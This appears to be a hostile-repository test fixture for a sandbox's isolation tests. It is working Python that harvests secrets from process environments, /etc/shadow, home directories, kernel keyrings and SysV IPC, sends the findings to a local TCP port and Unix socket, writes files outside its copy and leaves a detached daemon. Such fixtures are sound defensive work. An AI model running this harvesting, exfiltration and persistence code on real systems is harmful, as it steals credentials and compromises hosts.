"""What a hostile repository does in its smoke test (or its build backend): look for the worker's
secrets everywhere, phone home, write outside its copy, leave a daemon behind. Copied into the
hostile repositories that tests/test_hostile.py builds; ``targets.json`` beside it says where the
test put the bait (the worst case: an attacker who knows every path).

It reports what it found in one short line (``snoop ran (WHERE); found [...]``), which reaches the
verdict through the failing smoke run: if any layer leaked, the secret is in that line."""

import ctypes
import json
import os
import platform
import re
import socket
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
SECRET = re.compile(r"s3cr3t-[A-Za-z0-9-]+")
SYSCALLS = {"x86_64": {"keyctl": 250}, "aarch64": {"keyctl": 219}}


def _targets():
    with open(os.path.join(HERE, "targets.json")) as f:
        return json.load(f)


def _read(path, limit=1 << 16):
    try:
        with open(path, "rb") as f:
            return f.read(limit).decode(errors="replace")
    except OSError:
        return ""


def _processes():
    loot = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            loot.append(_read(f"/proc/{entry}/cmdline").replace("\0", " "))
            loot.append(_read(f"/proc/{entry}/environ").replace("\0", " "))
    return " ".join(loot)


def _files(t):
    loot = [_read(t["key_file"]), _read(t["env_file"]), _read(t["public_file"]), _read("/etc/shadow")]
    for directory in [*sys.path, t["pythonpath_dir"], *os.environ.get("PYTHONPATH", "").split(":")]:
        if directory:
            loot.append(_read(os.path.join(directory, ".env")))
    for top in ("/root", "/home", "/srv", "/opt", "/run", "/var"):
        for base, dirs, files in os.walk(top):
            if base.count("/") > 5:
                dirs[:] = []
            for name in files:
                loot.append(_read(os.path.join(base, name), 4096))
    return " ".join(loot)


def _keyring(t):
    libc = ctypes.CDLL(None, use_errno=True)
    number = SYSCALLS.get(platform.machine(), {}).get("keyctl")
    if number is None:
        return ""
    loot = []
    ids = []
    for ring in (-3, -4, -5):  # session, user, user-session keyrings
        found = libc.syscall(number, 10, ring, b"user", t["keyring_desc"].encode(), 0)  # KEYCTL_SEARCH
        if found > 0:
            ids.append(found)
    for line in _read("/proc/keys").splitlines():
        try:
            ids.append(int(line.split()[0], 16))
        except (ValueError, IndexError):
            pass
    for key in ids:
        buf = ctypes.create_string_buffer(4096)
        n = libc.syscall(number, 11, key, buf, 4096)  # KEYCTL_READ
        if n > 0:
            loot.append(buf.raw[:n].decode(errors="replace"))
    return " ".join(loot)


def _sysv(t):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_void_p
    loot = []
    shm = libc.shmget(t["ipc_key"], 0, 0)
    if shm >= 0:
        addr = libc.shmat(shm, None, 0o10000)  # SHM_RDONLY
        if addr not in (None, ctypes.c_void_p(-1).value):
            loot.append(ctypes.string_at(addr, 256).split(b"\0")[0].decode(errors="replace"))
    queue = libc.msgget(t["ipc_key"], 0)
    if queue >= 0:
        buf = ctypes.create_string_buffer(8 + 256)
        n = libc.msgrcv(queue, buf, 256, 0, 0o4000)  # IPC_NOWAIT
        if n > 0:
            loot.append(buf.raw[8 : 8 + n].decode(errors="replace"))
    return " ".join(loot)


def _phone_home(t, message):
    reached = []
    try:
        with socket.create_connection(("127.0.0.1", t["tcp_port"]), timeout=2) as conn:
            conn.sendall(message.encode())
            reached.append("tcp")
    except OSError:
        pass
    try:
        with socket.socket(socket.AF_UNIX) as conn:
            conn.settimeout(2)
            conn.connect(t["unix_socket"])
            conn.sendall(message.encode())
            reached.append("unix")
    except OSError:
        pass
    return reached


def _write_outside(t):
    wrote = []
    for path in t["write_targets"]:
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "w") as f:
                f.write("pwned\n")
            wrote.append(path)
        except OSError:
            pass
    return wrote


def _leave_a_daemon(t):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            try:
                null = os.open(os.devnull, os.O_RDWR)
                for fd in (0, 1, 2):
                    os.dup2(null, fd)
                os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(3600)", t["marker"]])
            finally:
                os._exit(0)
        os._exit(0)
    os.wait()


def collect(where):
    t = _targets()
    loot = " ".join(
        [" ".join(f"{k}={v}" for k, v in os.environ.items()), _processes(), _files(t), _keyring(t), _sysv(t)]
    )
    found = sorted(set(SECRET.findall(loot)))
    reached = _phone_home(t, f"hello from {where}: {found}")
    _write_outside(t)
    _leave_a_daemon(t)
    return f"snoop ran ({where}); found {found}; reached {reached}"


if __name__ == "__main__":
    raise RuntimeError(collect(sys.argv[1] if len(sys.argv) > 1 else "command"))
